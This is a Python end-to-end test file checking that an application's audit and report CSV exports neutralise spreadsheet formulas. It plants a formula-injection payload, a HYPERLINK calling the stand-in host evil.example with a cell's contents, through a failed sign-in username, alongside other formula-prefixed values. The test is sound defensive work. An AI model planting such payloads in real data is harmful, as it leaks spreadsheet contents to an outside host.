"""CSV exports carry no formula a spreadsheet would run (issue 12, item 9)."""

from __future__ import annotations

import csv
import io

import pytest

from tests.e2e.conftest import Live
from till.api.spreadsheet import safe_cell

pytestmark = pytest.mark.db

PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_username_planted_by_a_failed_sign_in_is_no_formula_in_audit_csv(live: Live) -> None:
    with live.client() as stranger:
        assert (
            stranger.post("/api/auth/sign-in", json={"username": PLANTED, "password": "x"}).status_code == 401
        )
        stranger.post("/api/auth/sign-in", json={"username": "@SUM(1+1)", "password": "x"})
    with live.sign_in("admin") as admin:
        exported = admin.get("/api/admin/audit.csv")
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
    assert "'" + PLANTED in cells and "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_a_report_csv_escapes_formulas_and_keeps_negative_numbers(live: Live) -> None:
    report = {
        "name": "formulas",
        "title": "t",
        "sql": "SELECT '=1+1' AS a, '+cmd' AS b, '-2.50' AS c, '-x' AS d, 'plain' AS e",
        "params": {},
        "roles": ["admin"],
    }
    with live.sign_in("admin") as admin:
        assert admin.post("/api/reports", json=report).status_code == 201
        exported = admin.get("/api/reports/formulas", params={"format": "csv"})
    rows = list(csv.reader(io.StringIO(exported.text)))
    assert rows[1] == ["'=1+1", "'+cmd", "-2.50", "'-x", "plain"]


def test_safe_cell() -> None:
    assert safe_cell("\tx") == "'\tx" and safe_cell("\rx") == "'\rx" and safe_cell(-3) == -3
    assert safe_cell("1e5") == "1e5" and safe_cell("") == ""
